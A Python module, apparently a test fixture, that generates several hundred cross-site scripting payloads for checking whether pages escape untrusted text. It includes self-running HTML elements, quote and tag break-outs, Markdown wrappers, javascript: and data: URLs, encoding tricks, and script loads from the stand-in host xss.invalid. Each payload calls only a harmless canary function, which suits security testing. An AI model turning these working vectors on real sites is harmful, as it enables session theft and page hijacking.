"""Texts that would run a script wherever a page forgot to escape them: our own, made of vectors and contexts.

A vector is markup that a browser runs by itself, without anybody pressing anything. A context is a place from which it
must first break out, or a disguise. Each payload calls `window.__xss` with its own number, so that one that ran is
known by name.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import count
from typing import Final

CALL: Final = "__xss(%d)"

# Elements that run by themselves; `JS` stands for the call.
ELEMENTS: Final = """
<script>JS</script>
<ScRiPt>JS</sCrIpT >
<script/x>JS</script>
<script type=module>JS</script>
<script>JS//
<img src=x onerror=JS>
<img/src/onerror=JS>
<img src=x ONERROR=JS>
<img src=x onerror="JS">
<img src=x:x onerror='JS'>
<image src=x onerror=JS>
<svg onload=JS>
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href=data:,JS></script></svg>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><set onbegin=JS attributeName=x>
<svg><style onload=JS></style></svg>
<svg><image href=x onerror=JS></svg>
<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
<video src=x onerror=JS></video>
<video><source onerror=JS></video>
<audio src=x onerror=JS></audio>
<details open ontoggle=JS>x</details>
<input autofocus onfocus=JS>
<textarea autofocus onfocus=JS></textarea>
<select autofocus onfocus=JS></select>
<button autofocus onfocus=JS>x</button>
<a href=x autofocus onfocus=JS>x</a>
<p tabindex=0 autofocus onfocus=JS>x</p>
<iframe onload=JS></iframe>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe src="javascript:parent.JS"></iframe>
<object data=x onerror=JS></object>
<object data="javascript:JS"></object>
<embed src="javascript:JS">
<link rel=stylesheet href=x onerror=JS>
<link rel=stylesheet href=data:text/css, onload=JS>
<style onload=JS></style>
<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=JS>x</b>
<b style="transition:1s" ontransitionend=JS>x</b>
<marquee onstart=JS>x</marquee>
<math><mtext><img src=x onerror=JS></mtext></math>
<math><mi><mglyph><svg onload=JS></mglyph></mi></math>
<table><td><img src=x onerror=JS></td></table>
<form><input autofocus onfocus=JS></form>
<body onload=JS>
<dialog open><img src=x onerror=JS></dialog>
<picture><source srcset=x><img src=x onerror=JS></picture>
<noscript><p title="</noscript><img src=x onerror=JS>">
<template></template><img src=x onerror=JS>
<!--><img src=x onerror=JS>-->
<![CDATA[<img src=x onerror=JS>]]>
<?x ><img src=x onerror=JS>
<x contenteditable autofocus onfocus=JS>x</x>
<base href=//xss.invalid><script src=a.js></script>
<script src=//xss.invalid/a.js></script>
<meta http-equiv=refresh content="0;url=//xss.invalid/">
""".strip().split("\n")

# What must be closed before an element counts, and what may be put around one; `IT` stands for the element.
OUT_OF: Final = (
    '">IT',
    "'>IT",
    "</textarea>IT",
    "</title>IT",
    "</style>IT",
    "</script>IT",
    "-->IT",
    "</option></select>IT",
)
IN_MARKDOWN: Final = (
    "**IT**", "[IT](https://a.example)", "![IT](https://a.example/x.png)", "`IT`", "> IT", "- IT", "# IT", "~~IT~~",
    "```html\nIT\n```", "| IT |\n|---|\n| IT |", "[x]: https://a.example 'IT'\n\n[x]", "https://a.example/IT",
)  # fmt: skip
SHORT: Final = (
    "<img src=x onerror=JS>",
    "<svg onload=JS>",
    "<script>JS</script>",
    "<svg/onload=JS>",
    "<iframe onload=JS>",
)

# Attributes that a forgotten quotation mark would let in, scripts that a forgotten escape would end, addresses.
BARE: Final = (
    '" autofocus onfocus=JS x="', "' autofocus onfocus=JS x='", " autofocus onfocus=JS ", '"onload="JS', "`onload=JS`",
    "';JS;//", '";JS;//', "\\';JS;//", "`;JS;`", "${JS}", "*/JS/*", "\nJS\n", "</script><script>JS</script>", "]]>JS",
    "{{constructor.constructor('JS')()}}", "{{7*7}}{%JS%}", "#{JS}", "<%=JS%>", "[[JS]]", "@{JS}", "\u2028JS\u2029",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "java\nscript:JS", " javascript:JS", "\x01javascript:JS",
    "javascript&colon;JS", "&#106;avascript:JS", "&#x6a;avascript:JS", "javascript:%4A&#83;JS", "javascript://x%0aJS",
    "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcygwKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=JS>", "vbscript:JS", "blob:JS", "//xss.invalid/", "\\\\xss.invalid",
    "view-source:x",
)  # fmt: skip
LINKED: Final = ("[x](IT)", "[x](<IT>)", "![x](IT)", "<IT>", "[x][y]\n\n[y]: IT", "[![x](IT)](IT)")
DISGUISES: Final = (
    ("<", "&lt;"), ("<", "&#60;"), ("<", "&#x3c;"), ("<", "&amp;lt;"), ("<", "\uff1c"), ("<", "%3C"), ("<", "\\u003c"),
    ("<", "\\x3c"), ("<", "+ADw-"), ("<", "\u00bc"), ("<", "<\x00"), ("<", "<\u200b"), ("<", "\\<"), ("<", "<<"),
    (">", ">\x00"), ("=", "&#61;"), (" ", "\x0c"), (" ", "\xa0"), ("on", "o\u200dn"), ("s", "\u017f"),
)  # fmt: skip


def every_payload() -> list[str]:
    """More than 500 of them; what stands in place n calls with n."""
    shapes = [
        *ELEMENTS,
        *(way.replace("IT", element) for way in OUT_OF for element in ELEMENTS[::5]),
        *(way.replace("IT", element) for way in IN_MARKDOWN for element in ELEMENTS[::6]),
        *BARE,
        *(way.replace("IT", address) for way in LINKED for address in ADDRESSES),
        *(one.replace(*disguise) for disguise in DISGUISES for one in SHORT),
    ]
    numbers = count()
    return [shape.replace("JS", CALL % next(numbers)) for shape in dict.fromkeys(shapes)]


def batched(payloads: Sequence[str], number: int) -> Iterator[Sequence[str]]:
    """So many at a time."""
    return (payloads[start : start + number] for start in range(0, len(payloads), number))
